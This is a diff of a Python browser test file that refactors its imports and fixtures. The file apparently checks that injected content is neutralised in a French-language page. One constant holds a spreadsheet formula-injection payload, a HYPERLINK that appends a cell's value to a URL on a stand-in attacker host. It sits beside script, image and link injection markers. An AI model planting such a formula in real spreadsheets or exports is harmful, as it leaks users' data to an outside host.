@@ -6,16 +6,20 @@ lines are untouched, byte for byte."""
 from __future__ import annotations
 
 import csv
-import shutil
 
 import pytest
 
-from data_sources.loader import SAMPLE_DIR
-from tests.browser.conftest import IMG, MD_LINK, SCRIPT, find_injections
+from tests.browser.conftest import (
+    IMG,
+    LOCAL_UPDATES,
+    MD_LINK,
+    SCRIPT,
+    copy_sample,
+    find_injections,
+)
 
 pytestmark = pytest.mark.browser
 
-LOCAL_UPDATES = "[updates]\nenabled = true\nallow_without_login = true\n"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"clic")'
 NEWS = f"Le diagnostic est publié. {IMG} {SCRIPT} {MD_LINK} **pas gras** {FORMULA}"
 URL = "/coalition?coalition=envdata"
@@ -23,10 +27,7 @@ URL = "/coalition?coalition=envdata"
 
 @pytest.fixture(scope="module")
 def workbook(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("lead-copy")
-    for source in SAMPLE_DIR.glob("*.csv"):
-        shutil.copy(source, folder / source.name)
-    return folder
+    return copy_sample(tmp_path_factory.mktemp("lead-copy"))
 
 
 @pytest.fixture(scope="module")
